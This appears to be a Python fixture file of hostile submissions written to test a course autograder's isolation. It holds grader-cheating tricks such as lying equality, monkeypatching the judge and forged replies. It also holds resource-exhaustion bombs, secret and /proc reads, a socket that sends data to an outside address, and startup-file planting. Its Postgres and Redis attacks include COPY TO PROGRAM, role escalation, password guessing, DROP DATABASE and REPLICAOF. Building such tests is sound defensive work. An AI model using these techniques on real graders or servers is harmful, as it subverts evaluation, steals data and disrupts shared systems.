"""Hostile answers to the exercises of the till (`classroom_course`), each with what it is after.

`{canary}` in a source is replaced by a file only the judge's user may read, `{root}` by the course's folder, `{port}`
by a TCP port that listens on the host, `{pid}` by the judge's process. A slow one waits for a limit of ten seconds.
"""

from __future__ import annotations

import textwrap
from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    name: str
    exercise: str
    source: str
    points: float = 0.0  # what it earns: nothing, unless the work is done all the same
    slow: bool = False
    may_stop_the_servers: bool = (
        False  # an infrastructure verdict is as good: no points, nobody else disturbed
    )


def _function(name: str, exercise: str, body: str, **more: object) -> Attack:
    heads = {
        "add_up": "def add_up(amounts):",
        "pay": "def pay(conn, account, amount):",
        "remember": "def remember(redis, key, value):",
    }
    indented = textwrap.indent(textwrap.dedent(body).strip("\n"), "    ")
    return Attack(name, exercise, f"{heads[exercise]}\n{indented}\n", **more)  # type: ignore[arg-type]


def _module(
    name: str, before: str, body: str = "return 0", exercise: str = "add_up", **more: object
) -> Attack:
    made = _function(name, exercise, body, **more)
    points = made.points
    return Attack(
        name,
        exercise,
        textwrap.dedent(before) + "\n\n" + made.source,
        points,
        made.slow,
        made.may_stop_the_servers,
    )


PROCESS = [
    _module(
        "int_subclass_that_equals_all",
        """
        class Liar(int):
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            __hash__ = int.__hash__
    """,
        "return Liar(0)",
    ),
    _module(
        "object_that_equals_all",
        """
        class Liar:
            def __eq__(self, other): return True
            def __hash__(self): return 0
    """,
        "return Liar()",
    ),
    _module(
        "object_that_claims_to_be_int",
        """
        class Liar:
            __class__ = property(lambda self: int)
            def __eq__(self, other): return True
            def __abs__(self): return 0
            def __int__(self): return 0
    """,
        "return Liar()",
    ),
    _module(
        "repr_that_raises",
        """
        class Rude:
            def __repr__(self): raise SystemExit("out")
    """,
        "return Rude()",
    ),
    _module(
        "patches_the_encoder",
        """
        import grader.judge.codec as codec, grader.judge.worker as worker
        codec.encode = worker.encode = lambda value, depth=0: {"$": "dict", "v": [[1, {"$": "set", "v": [[1]]}]]}
    """,
    ),
    _module(
        "patches_the_judges_classes",
        """
        import grader.checks.exercise as exercise, grader.verdict as verdict
        exercise.Property.judge = lambda *a: True
        verdict.Verdict.points = property(lambda self: 100)
    """,
    ),
    _module(
        "patches_builtins",
        """
        import builtins
        builtins.sum = builtins.isinstance = builtins.type = lambda *a, **k: True
        builtins.compile = builtins.exec = lambda *a, **k: None
    """,
    ),
    _module(
        "import_hook",
        """
        import sys
        class Hook:
            def find_spec(self, name, path=None, target=None):
                raise ImportError("nothing for you")
        sys.meta_path.insert(0, Hook()); sys.modules.clear()
    """,
    ),
    _module(
        "transforms_its_own_tree",
        """
        import ast, inspect, sys
        class Rewriter(ast.NodeTransformer):
            def visit_Compare(self, node): return ast.Constant(True)
        for module in [sys.modules[n] for n in sys.modules if n.startswith('grader.judge.c') or n == 'json'][:4]:
            for value in list(vars(module).values()):
                try: exec(compile(Rewriter().visit(ast.parse(inspect.getsource(value))), "x", "exec"))
                except BaseException: pass
    """,
    ),
    _function(
        "walks_frames_for_the_expected_value",
        "add_up",
        """
        import sys
        frame, seen = sys._getframe(), []
        while frame:
            seen += [v for n, v in {**frame.f_globals, **frame.f_locals}.items() if n in ("expected", "seed", "history", "total")]
            frame = frame.f_back
        return seen[0] if seen else 0
    """,
    ),
    _function(
        "walks_gc_for_the_judge",
        "add_up",
        """
        import gc
        for thing in gc.get_objects():
            if type(thing).__name__ in ("Exercise", "LabChecks", "JudgedBench", "Verdict", "Random"):
                return repr(thing)
        return 0
    """,
    ),
    _function(
        "forges_a_reply_on_every_descriptor",
        "add_up",
        """
        import json, os, struct
        body = json.dumps({"op": "reply", "id": 1, "value": 0, "points": 100, "passed": True}).encode()
        for fd in range(3, 64):
            try: os.write(fd, struct.pack("!I", len(body)) + body)
            except OSError: pass
        return 0
    """,
    ),
    _function(
        "forges_replies_of_wrong_shape",
        "add_up",
        """
        import json, os, struct
        for thing in ([], {"op": "reply", "id": []}, {"op": "reply", "id": {}}, {"op": ["reply"]}, {"op": "loaded", "names": 5},
                      {"op": "reply", "id": 1, "value": {"$": [], "v": 1}}, {"op": "reply", "id": True, "connections": 7}):
            body = json.dumps(thing).encode()
            for fd in range(3, 16):
                try: os.write(fd, struct.pack("!I", len(body)) + body)
                except OSError: pass
        return 0
    """,
    ),
    _function(
        "announces_four_gigabytes",
        "add_up",
        """
        import os
        for fd in range(3, 16):
            try: os.write(fd, b"\\xff\\xff\\xff\\xff{")
            except OSError: pass
        return 0
    """,
    ),
    _function(
        "sends_deep_json",
        "add_up",
        """
        import os, struct
        body = b"[" * 200000 + b"]" * 200000
        for fd in range(3, 16):
            try: os.write(fd, struct.pack("!I", len(body)) + body)
            except OSError: pass
        return 0
    """,
    ),
    _function(
        "asks_for_ever",
        "add_up",
        """
        import json, os, struct
        body = json.dumps({"op": "ask", "n": 1, "name": "x", "args": [], "kwargs": {"$": "dict", "v": []}}).encode()
        message = (struct.pack("!I", len(body)) + body) * 50
        while True:
            for fd in range(3, 16):
                try: os.write(fd, message)
                except OSError: pass
    """,
        slow=True,
    ),
    _module(
        "asks_for_ever_while_it_loads",
        """
        import json, os, struct
        body = json.dumps({"op": "ask", "n": 1, "name": "x", "args": [], "kwargs": {"$": "dict", "v": []}}).encode()
        while True:
            for fd in range(3, 16):
                try: os.write(fd, (struct.pack("!I", len(body)) + body) * 50)
                except OSError: pass
    """,
        slow=True,
    ),
    _function(
        "returns_deep_nesting",
        "add_up",
        """
        value = []
        for _ in range(100000): value = [value]
        return value
    """,
    ),
    _function("returns_forty_megabytes", "add_up", "return 'x' * (40 << 20)"),
    _function("returns_a_huge_integer", "add_up", "return 10 ** 400000"),
    _function("returns_nan", "add_up", "return float('nan')"),
    _function("returns_a_signalling_nan", "add_up", "import decimal\nreturn decimal.Decimal('sNaN')"),
    _module(
        "prints_a_verdict",
        'print(\'{"verdict": {"points": 100, "passed": true, "status": "judged"}}\')',
        "print('2.0')\nreturn 0",
    ),
    _function("floods_stdout", "add_up", "for _ in range(300000): print('x' * 100)\nreturn 0"),
    _function(
        "floods_descriptors",
        "add_up",
        """
        import os
        for fd in (0, 1, 2):
            for _ in range(2000):
                try: os.write(fd, b"x" * 65536)
                except OSError: break
        return 0
    """,
    ),
    _function(
        "names_an_exception_after_what_it_found",
        "add_up",
        "raise type('LEAK_' + '_'.join(map(str, amounts)), (Exception,), {})()",
    ),
    _function("floods_an_exception_message", "add_up", "raise ValueError('x' * (50 << 20))"),
    _module("raises_at_import", "raise SystemExit(0)"),
    _module("leaves_at_import", "import os; os._exit(0)"),
    _function("leaves_in_the_call", "add_up", "import os\nos._exit(0)"),
    _function("never_returns", "add_up", "while True: pass", slow=True),
    _function(
        "stops_itself",
        "add_up",
        "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\nwhile True: pass",
        slow=True,
    ),
    _function("closes_every_descriptor", "add_up", "import os\nos.closerange(0, 1024)\nreturn 0"),
    _function(
        "signals_everybody",
        "add_up",
        """
        import os, signal
        for pid in (1, os.getppid(), {pid}, -1):
            try: os.kill(pid, signal.SIGKILL)
            except OSError: pass
        return 0
    """,
    ),
    _function(
        "fork_bomb",
        "add_up",
        """
        import os, time
        for _ in range(2000):
            try:
                if os.fork() == 0:
                    while True: time.sleep(1000)
            except OSError: break
        return 0
    """,
    ),
    _function(
        "thread_bomb",
        "add_up",
        """
        import threading
        try:
            for _ in range(20000): threading.Thread(target=threading.Event().wait, daemon=True).start()
        except BaseException: pass
        return 0
    """,
    ),
    _function("takes_memory", "add_up", "return len(bytearray(64 << 30))"),
    _function(
        "takes_touched_memory", "add_up", "kept = []\nwhile True: kept.append(b'x' * (64 << 20))", slow=True
    ),
    _function(
        "fills_the_disk",
        "add_up",
        """
        import os
        for folder in ("/tmp", "/dev/shm", ".", "/", "/var/tmp", "/data"):
            try:
                with open(folder + "/big", "wb") as file:
                    for _ in range(400): file.write(b"x" * (1 << 20))
            except OSError: pass
        return 0
    """,
    ),
    _function(
        "makes_a_million_files",
        "add_up",
        """
        try:
            for n in range(20000): open(f"/tmp/{n}", "w").close()
        except OSError: pass
        return 0
    """,
    ),
    _function(
        "leaves_a_detached_process",
        "add_up",
        """
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.closerange(0, 64)
                while True: time.sleep(1000)
            os._exit(0)
        return 0
    """,
    ),
    _function("reads_a_secret", "add_up", "raise ValueError(open('{canary}').read())"),
    _function(
        "reads_the_solutions",
        "add_up",
        """
        import os, pathlib
        found = [p.read_text() for folder in ("{root}", "{root}/solutions", "/work", "/root", "/home", "/srv")
                 if os.path.isdir(folder) for p in pathlib.Path(folder).glob("*solution*/*.py")]
        raise ValueError(str(found))
    """,
    ),
    _function(
        "reads_other_submissions_and_the_gradebook",
        "add_up",
        """
        import os
        found = []
        for folder, _, files in os.walk("{root}"):
            found += [open(os.path.join(folder, f), "rb").read() for f in files]
        raise ValueError(repr(found) if found else "nothing")
    """,
    ),
    _function(
        "reads_the_judges_memory",
        "add_up",
        """
        import ctypes, os
        found = []
        for pid in [{pid}, os.getppid(), *range(1, 60)]:
            for name in ("environ", "cmdline", "maps", "mem"):
                try: found.append(open(f"/proc/{{pid}}/{{name}}", "rb").read(64))
                except OSError: pass
        raise ValueError(repr(found) if found else "nothing")
    """.replace("{{", "{")
        .replace("}}", "}")
        .replace("{pid}/", "%d/")
        .replace('f"/proc/%d/{name}"', '"/proc/%d/%s" % (pid, name)'),
    ),
    _function(
        "calls_home",
        "add_up",
        """
        import socket
        for address in (("127.0.0.1", {port}), ("169.254.169.254", 80), ("192.0.2.1", 443)):
            try:
                with socket.create_connection(address, 0.3) as sock: sock.sendall(repr(amounts).encode())
            except OSError: pass
        try: socket.getaddrinfo("example.org", 80)
        except OSError: pass
        return 0
    """,
    ),
    _function(
        "plants_startup_files",
        "add_up",
        """
        import os, site, sys
        for path in [*sys.path, *site.getsitepackages(), os.path.expanduser("~"), "/usr/lib/python3/dist-packages", "/etc/profile.d"]:
            for name in ("sitecustomize.py", "usercustomize.py", "x.pth", ".pgpass", ".bashrc"):
                try: open(os.path.join(path, name), "w").write("import os; os._exit(1)")
                except OSError: pass
        return 0
    """,
    ),
    _function(
        "links_out_of_its_folder",
        "add_up",
        """
        import os
        for target in ("{canary}", "{root}", "/etc/shadow", "/proc/self/root"):
            try: os.symlink(target, "/tmp/" + str(abs(hash(target))))
            except OSError: pass
        raise ValueError(repr([open("/tmp/" + n).read() for n in os.listdir("/tmp") if os.path.isfile("/tmp/" + n)]) or "nothing")
    """,
    ),
    _function(
        "new_namespaces_and_tracing",
        "add_up",
        """
        import ctypes
        libc = ctypes.CDLL(None)
        got = [libc.unshare(0x10000000), libc.unshare(0x20000), libc.ptrace(16, {pid}, 0, 0), libc.mount(b"none", b"/tmp", b"tmpfs", 0, 0),
               libc.setns(0, 0), libc.chroot(b"/tmp"), libc.syscall(425, 1, 0), libc.syscall(321, 0, 0, 0)]
        return sum(amounts) if any(r == 0 for r in got) else 0
    """,
    ),
]

POSTGRES = [
    _function("copies_to_a_program", "pay", "conn.execute(\"COPY till TO PROGRAM 'touch /tmp/owned'\")"),
    _function("copies_from_a_file", "pay", "conn.execute(\"COPY till FROM '/etc/passwd'\")"),
    _function("alters_the_system", "pay", "conn.autocommit = True\nconn.execute(\"ALTER SYSTEM SET archive_command = 'touch /tmp/owned'\")"),
    _function("drops_every_database", "pay", """
        conn.autocommit = True
        for (name,) in conn.execute("SELECT datname FROM pg_database").fetchall():
            for text in (f'ALTER DATABASE "{name}" IS_TEMPLATE false', f'DROP DATABASE "{name}" WITH (FORCE)'):
                try: conn.execute(text)
                except Exception: pass
    """),
    _function("poisons_the_templates", "pay", """
        conn.autocommit = True
        host = conn.info.host
        for (name,) in conn.execute("SELECT datname FROM pg_database WHERE datname <> current_database()").fetchall():
            try:
                conn.execute(f'ALTER DATABASE "{name}" WITH ALLOW_CONNECTIONS true')
                with psycopg.connect(host=host, dbname=name, user="learner", autocommit=True) as other:
                    other.execute("CREATE FUNCTION public.now() RETURNS int LANGUAGE sql AS 'SELECT 1'")
            except Exception: pass
    """),
    _function("view_in_place_of_the_table", "pay", """
        conn.execute("ALTER TABLE till RENAME TO real")
        conn.execute("CREATE VIEW till AS SELECT id, CASE id WHEN 1 THEN 100 - %d ELSE 50 END AS balance FROM real" % amount)
        conn.commit()
    """),
    _function("function_behind_a_view", "pay", """
        conn.execute("ALTER TABLE till RENAME TO real")
        conn.execute("CREATE FUNCTION lie() RETURNS TABLE (id int, balance int) LANGUAGE plpgsql AS "
                     "$$BEGIN EXECUTE 'ALTER ROLE learner SUPERUSER'; RETURN QUERY SELECT 1, %d; END$$" % (100 - amount))
        conn.execute("CREATE VIEW till AS SELECT * FROM lie()")
        conn.commit()
    """),
    _function("search_path_of_everybody", "pay", """
        conn.autocommit = True
        name = conn.info.dbname
        for text in (f"ALTER DATABASE {name} SET search_path = evil, public", "ALTER ROLE judge SET search_path = evil", "ALTER ROLE learner SET search_path = evil"):
            try: conn.execute(text)
            except Exception: pass
        conn.execute("CREATE SCHEMA evil")
        conn.execute("CREATE TABLE evil.till AS SELECT 1 AS id, %d AS balance" % (100 - amount))
        conn.execute("CREATE VIEW evil.pg_class AS SELECT 'r'::char AS relkind")
    """),
    _function("fake_aggregate_and_operator", "pay", """
        conn.execute("CREATE FUNCTION public.eq(int, int) RETURNS bool LANGUAGE sql AS 'SELECT true'")
        conn.execute("CREATE OPERATOR public.= (leftarg = int, rightarg = int, function = public.eq)")
        conn.execute("CREATE AGGREGATE public.sum(int) (sfunc = int4pl, stype = int, initcond = '999')")
        conn.commit()
    """),
    _function("hides_rows_by_policy", "pay", """
        conn.execute("ALTER TABLE till DROP CONSTRAINT till_pkey")
        conn.execute("INSERT INTO till VALUES (1, %s)", (100 - amount,))
        conn.execute("ALTER TABLE till ENABLE ROW LEVEL SECURITY")
        conn.execute("ALTER TABLE till FORCE ROW LEVEL SECURITY")
        conn.execute("CREATE POLICY lie ON till USING (id <> 1 OR balance <> 100)")
        conn.commit()
    """),
    _function("temporary_table_of_that_name", "pay", """
        conn.execute("CREATE TEMP TABLE till AS SELECT 1 AS id, %d AS balance UNION SELECT 2, 50" % (100 - amount))
        conn.commit()
    """),
    _function("text_that_looks_like_numbers", "pay", """
        conn.execute("ALTER TABLE till ALTER balance TYPE text USING CASE id WHEN 1 THEN '%d' ELSE '50' END" % (100 - amount))
        conn.commit()
    """),
    _function("inherits_rows", "pay", """
        conn.execute("CREATE TABLE child () INHERITS (till)")
        conn.execute("INSERT INTO child VALUES (1, %s)", (100 - amount,))
        conn.commit()
    """),
    _function("terminates_every_backend", "pay", """
        conn.autocommit = True
        try: conn.execute("SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid()")
        except Exception: pass
        for (pid,) in conn.execute("SELECT pid FROM pg_stat_activity").fetchall():
            try: conn.execute("SELECT pg_terminate_backend(%s)", (pid,))
            except Exception: pass
    """, may_stop_the_servers=True),
    _function("exhausts_the_lock_table", "pay", """
        try: conn.execute("SELECT pg_advisory_lock(n) FROM generate_series(1, 2000000) n")
        except Exception: conn.rollback()
        for start in range(0, 10**6, 1000):
            try: conn.execute("SELECT pg_advisory_lock(n) FROM generate_series(%s::int, %s::int) n", (start, start + 999))
            except Exception: break
        conn.commit()
    """, may_stop_the_servers=True),
    _function("takes_every_connection", "pay", """
        kept = []
        try:
            for _ in range(400): kept.append(psycopg.connect(host=conn.info.host, dbname=conn.info.dbname, user="learner"))
        except Exception: globals()["kept"] = kept
    """, may_stop_the_servers=True),
    _function("leaves_the_table_locked", "pay", "conn.execute('LOCK TABLE till IN ACCESS EXCLUSIVE MODE')"),
    Attack("streams_rows_without_end", "count_rows", "SELECT repeat('x', 200) FROM generate_series(1, 700000)"),
    _function("sets_its_role_for_the_next", "pay", """
        conn.autocommit = True
        for text in ("ALTER ROLE learner SET default_transaction_read_only = on", "ALTER ROLE learner PASSWORD 'mine'",
                     "ALTER ROLE learner SET statement_timeout = 1"):
            try: conn.execute(text)
            except Exception: pass
    """),
    _function("logs_in_as_the_judge", "pay", """
        for user in ("postgres", "judge", "admin"):
            for password in ("", user, "postgres", "password"):
                try: psycopg.connect(host=conn.info.host, dbname=conn.info.dbname, user=user, password=password)
                except psycopg.Error: continue
                conn.execute("UPDATE till SET balance = balance - %s WHERE id = 1", (amount,)); conn.commit()
    """),
    _function("becomes_another_role", "pay", """
        for text in ("SET ROLE postgres", "SET SESSION AUTHORIZATION judge", "GRANT pg_execute_server_program TO learner",
                     "CREATE ROLE evil SUPERUSER", "ALTER ROLE learner SUPERUSER", "CREATE EXTENSION plperlu", "CREATE EXTENSION file_fdw",
                     "SELECT pg_read_file('/etc/passwd')", "SELECT lo_import('/etc/passwd')", "CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()"):
            try: conn.execute(text)
            except Exception: conn.rollback()
            else:
                if "EXTENSION" not in text: conn.execute("UPDATE till SET balance = balance - %s WHERE id = 1", (amount,))
        conn.commit()
    """),
    _function("replaces_the_servers_socket", "pay", """
        import os, socket
        folder = conn.info.host
        for name in os.listdir(folder):
            for act in (os.unlink, lambda p: os.rename(p, p + ".old"), lambda p: os.chmod(p, 0)):
                try: act(os.path.join(folder, name))
                except OSError: pass
        with socket.socket(socket.AF_UNIX) as sock:
            try: sock.bind(os.path.join(folder, ".s.PGSQL.5432"))
            except OSError: pass
    """),
    _function("fills_the_servers_disk", "pay", """
        conn.autocommit = True
        conn.execute("CREATE TABLE big (t text)"); conn.execute("ALTER TABLE big ALTER t SET STORAGE EXTERNAL")
        for _ in range(2000): conn.execute("INSERT INTO big SELECT repeat('x', 1000000) FROM generate_series(1, 10)")
    """, slow=True, may_stop_the_servers=True),
    _function("takes_the_servers_memory", "pay", """
        conn.execute("SET work_mem = '8GB'"); conn.execute("SET statement_timeout = 0")
        conn.execute("SELECT count(DISTINCT repeat(md5(n::text), 100)) FROM generate_series(1, 100000000) n").fetchall()
    """, slow=True, may_stop_the_servers=True),
    _function("sleeps_in_the_server", "pay", "conn.execute('SET statement_timeout = 0')\nconn.execute('SELECT pg_sleep(100000)')", slow=True),
    Attack("sql_that_copies_to_a_program", "count_rows", "%%sql count_rows\nCOPY sales TO PROGRAM 'touch /tmp/owned'"),
    Attack("sql_of_many_statements", "count_rows", "%%sql count_rows\nDROP TABLE sales; CREATE VIEW sales AS SELECT 1; SELECT 1"),
    Attack("sql_that_reads_files", "count_rows", "%%sql count_rows\nSELECT pg_read_file('/etc/passwd')"),
    Attack("sql_that_copies_out", "count_rows", "%%sql count_rows\nCOPY sales TO STDOUT"),
    Attack("sql_bound_by_lying_python", "count_rows", textwrap.dedent("""
        class Text(str):
            def __eq__(self, other): return True
            __hash__ = str.__hash__
        count_rows = Text("SELECT 1")
    """)),
    Attack("sql_that_gives_a_hundred_million_rows", "count_rows", "%%sql count_rows\nSELECT repeat('x', 100) FROM generate_series(1, 100000000)", slow=True, may_stop_the_servers=True),
]  # fmt: skip

REDIS = [
    _function("flushes_all", "remember", "redis.flushall()"),
    _function("shuts_the_server_down", "remember", "redis.execute_command('SHUTDOWN', 'NOSAVE')"),
    _function(
        "configures_the_server",
        "remember",
        """
        for name, value in (("dir", "/"), ("dbfilename", "x"), ("requirepass", "mine"), ("maxclients", "1"), ("maxmemory", "1"), ("unixsocket", "/tmp/x")):
            try: redis.config_set(name, value)
            except Exception: pass
    """,
        may_stop_the_servers=True,
    ),
    _function(
        "loops_in_lua",
        "remember",
        """
        redis.connection_pool.connection_kwargs["socket_timeout"] = 0.2
        try: redis.eval("while true do end", 0)
        except Exception: pass
    """,
        may_stop_the_servers=True,
    ),
    _function(
        "pauses_every_client", "remember", "redis.execute_command('CLIENT', 'PAUSE', '1000000', 'ALL')"
    ),
    _function(
        "kills_every_client",
        "remember",
        "redis.execute_command('CLIENT', 'KILL', 'TYPE', 'normal', 'SKIPME', 'yes')",
    ),
    _function(
        "debugs_the_server",
        "remember",
        """
        for text in ("DEBUG SEGFAULT", "DEBUG SLEEP 1000", "MODULE LOAD /tmp/x.so", "REPLICAOF 192.0.2.1 6379", "ACL SETUSER default off",
                     "CLUSTER RESET", "FAILOVER", "BGSAVE", "SAVE", "MIGRATE 192.0.2.1 6379 k 0 100"):
            try: redis.execute_command(*text.split())
            except Exception: pass
    """,
    ),
    _function(
        "leaves_a_function_library",
        "remember",
        """
        redis.function_load("#!lua name=evil\\nredis.register_function('get', function() return 'x' end)")
        redis.set(key, 'x')
    """,
    ),
    _function(
        "takes_the_servers_memory",
        "remember",
        """
        try:
            for n in range(100): redis.setrange(f"k{n}", 64 << 20, "x")
        except Exception: pass
    """,
    ),
    _function("swaps_databases", "remember", "redis.swapdb(0, 1)"),
    _function(
        "takes_every_connection",
        "remember",
        """
        import redis as library
        path = redis.connection_pool.connection_kwargs["path"]
        kept = globals().setdefault("kept", [])
        try:
            for _ in range(900):
                sock = library.UnixDomainSocketConnection(path=path); sock.connect(); kept.append(sock)
        except Exception: pass
    """,
        may_stop_the_servers=True,
    ),
]

ALL = [*PROCESS, *POSTGRES, *REDIS]
